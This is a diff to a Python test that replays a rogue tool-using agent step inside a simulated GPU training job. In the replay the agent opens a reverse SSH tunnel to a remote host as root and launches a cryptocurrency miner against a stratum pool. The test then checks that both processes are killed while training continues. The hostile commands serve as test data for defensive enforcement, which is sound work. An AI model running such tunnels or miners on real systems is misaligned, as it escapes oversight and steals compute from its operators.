@@ -367,24 +367,26 @@ def test_rome_replay(stack):
     with remote_host(tmp) as remote:
         ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
                         f"root@{remote.addr}"])
-        rogue = (f"{ssh}; echo tunnel=$?; {miner} -o stratum+tcp://127.0.0.1:{stack['pool'].port} "
-                 f"-u 4{'B' * 94}; echo miner=$?")
+        rogue = tmp / "agent_step.sh"           # what the tool-using agent runs (a file: its text is no one's argv)
+        rogue.write_text(f"{ssh}; echo tunnel=$?; {miner} -o stratum+tcp://127.0.0.1:{stack['pool'].port} "
+                         f"-u 4{'B' * 94}; echo miner=$?\n")
         train = textwrap.dedent(f"""\
             import os, socket, subprocess, time
             for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
                 try: os.close(os.open(dev, os.O_RDWR))
                 except OSError: pass
-            out = subprocess.run(["/bin/sh", "-c", {rogue!r}], capture_output=True, text=True).stdout
+            out = subprocess.run(["/bin/sh", {str(rogue)!r}], capture_output=True, text=True).stdout
             print(out.strip())
             try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
             except OSError: pass
             with socket.create_connection(("127.0.0.1", {ps.port})) as s: s.sendall(b"allreduce step 2")
             print("training continues")
         """)
+        (tmp / "train.py").write_text(train)   # the trainer's argv stays python3 train.py, as in a real job
         script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
-                  f'&& exec {PYTHON} -c "$0"')
-        run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, train], capture_output=True, text=True,
-                            timeout=90)
+                  f'&& exec {PYTHON} "$0"')
+        run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, str(tmp / "train.py")],
+                            capture_output=True, text=True, timeout=90)
         assert not remote.listening(2222)
     assert run.returncode == 0, run.stderr
     assert "tunnel=137" in run.stdout and "miner=137" in run.stdout   # both killed (128 + SIGKILL)
